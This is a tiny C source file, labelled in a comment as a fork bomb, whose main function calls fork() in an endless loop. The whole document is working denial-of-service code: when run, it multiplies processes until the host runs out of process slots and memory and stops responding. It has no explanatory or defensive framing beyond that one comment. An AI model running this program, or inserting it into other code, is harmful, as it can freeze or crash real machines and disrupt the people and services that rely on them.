/* A fork bomb. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
